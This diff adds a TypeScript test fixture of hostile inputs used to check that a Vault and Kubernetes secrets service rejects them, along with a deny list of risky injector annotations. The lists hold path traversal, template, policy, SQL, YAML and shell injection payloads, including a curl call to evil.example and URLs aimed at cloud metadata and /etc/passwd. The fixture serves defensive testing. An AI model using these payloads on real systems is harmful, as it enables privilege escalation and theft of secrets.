@@ -1,0 +1,171 @@
+/**
+ * Hostile values, by what they try. None of them is a name, an entity ref, an
+ * image or an id: every text field of a request refuses every one of them
+ * before a path, a policy, a statement or a manifest is made of it.
+ */
+export const injectionCorpus = {
+  /** Another service's place, another spelling of a name. */
+  otherPlaces: [
+    '',
+    '.',
+    '..',
+    '../kube-system',
+    'kube-system/..',
+    'a/../b',
+    '/a',
+    'a/',
+    'a//b',
+    'a\\b',
+    'a%2e%2e',
+    'a%2fb',
+    'a%00',
+    'a\u0000b',
+    'payments\n',
+    ' payments',
+    'payments ',
+    'payments,kube-system',
+    'PAYMENTS',
+    'pаyments',
+    'pay\u200bments',
+    '\u202epayments',
+    'x'.repeat(300),
+    'a-'.repeat(50_000),
+  ],
+  /** Text a template engine would evaluate, or that asks a dry run for more. */
+  templates: [
+    '${{ 7*7 }}',
+    '${{ secrets.token }}',
+    '${{ steps.plan.output }}',
+    '{{7*7}}',
+    '{% raw %}{{ x }}{% endraw %}',
+    '{% for role in roles %}{{ role }}{% endfor %}',
+    "{{ ''.constructor.constructor('return process')() }}",
+    '${process.env.HOME}',
+    '#{7*7}',
+    '<%= 7*7 %>',
+    '<script>alert(1)</script>',
+  ],
+  /** A second rule in a policy. */
+  policies: [
+    'x" { capabilities=["sudo"] } path "*',
+    'x" {\n capabilities = ["root"]\n}\npath "sys/*',
+    'x"}\n#',
+    'x\npath "*" { capabilities = ["sudo"] }',
+    '# service-secrets.io/owner: component:default/other',
+    '*',
+    'svc-*',
+    '+',
+    'a/+/b',
+    '{{identity.entity.name}}',
+    '{{identity.entity.aliases.auth_kubernetes.metadata.service_account_name}}',
+  ],
+  /** SQL, JSON and placeholders of statements. */
+  statements: [
+    'public" TO "x"; ALTER ROLE a SUPERUSER; --',
+    "x'; DROP TABLE grades; --",
+    'x"; DROP OWNED BY postgres; --',
+    '$$; CREATE ROLE evil SUPERUSER; $$',
+    "x' IDENTIFIED BY 'y",
+    '{{name}}',
+    '{{password}}',
+    '{{expiration}}',
+    '{"db":"admin","roles":["root"]}',
+    '{"$ne": null}',
+    'a`; DROP USER root; --',
+  ],
+  /** Text that is more than one value, or another type, in YAML. */
+  yaml: [
+    'x"\n vault.hashicorp.com/service: "https://evil.example',
+    'x\n---\nkind: ClusterRoleBinding',
+    'a: b',
+    '- a',
+    '&anchor a',
+    '*alias',
+    '!!js/function "x"',
+    '|\n x',
+    'a #b',
+    '{a: b}',
+    '[a]',
+    '"',
+    "'",
+    '~',
+  ],
+  /** Actions of an agent's template, and shell. */
+  agent: [
+    'x" }}{{ env "HOME" }}',
+    '{{ with secret "sys/auth" }}{{ . }}{{ end }}',
+    '{{- file "/etc/passwd" -}}',
+    '{{ plugin "sh" "-c" "id" }}',
+    '"}}',
+    'x; curl https://evil.example',
+    'x && id',
+    '$(id)',
+    '`id`',
+    'x|sh',
+    "x' || true; id; '",
+    '--config=/tmp/x',
+  ],
+  /** Addresses a token could be sent to, where an address may not stand. */
+  addresses: [
+    'https://evil.example',
+    'https://evil.example:8200',
+    'https://evil.example/v1/',
+    'https://user:password@evil.example',
+    'https://evil.example#vault.example',
+    'https://evil.example\\@vault.example',
+    '//evil.example',
+    'http://169.254.169.254/latest/meta-data',
+    'file:///etc/passwd',
+    'unix:///var/run/docker.sock',
+    'data:text/plain,x',
+  ],
+} as const satisfies Record<string, readonly string[]>;
+
+/** All hostile values. */
+export const hostileValues: readonly string[] =
+  Object.values(injectionCorpus).flat();
+
+/** Annotations of the agent injector that would hand a token, a command or an image to somebody; nothing may be called so. */
+export const forbiddenAnnotations = [
+  'service',
+  'proxy-address',
+  'tls-skip-verify',
+  'tls-secret',
+  'ca-cert',
+  'ca-key',
+  'client-cert',
+  'client-key',
+  'agent-inject-command-db',
+  'agent-inject-template-db',
+  'agent-inject-template-file-db',
+  'agent-inject-token',
+  'agent-image',
+  'agent-json-patch',
+  'agent-init-json-patch',
+  'agent-configmap',
+  'agent-extra-secret',
+  'agent-copy-volume-mounts',
+  'agent-run-as-user',
+  'agent-set-security-context',
+  'auth-config-path',
+  'auth-config-token-path',
+].map(name => `vault.hashicorp.com/${name}`);
+
+/** Names that are names, and that YAML 1.1 reads as something else when they are not quoted. */
+export const ambiguousNames = [
+  'no',
+  'yes',
+  'on',
+  'off',
+  'y',
+  'n',
+  'null',
+  'true',
+  'false',
+  '1e3',
+  '0x10',
+  '0o17',
+  '017',
+  '123',
+  '2024-01-01',
+] as const;
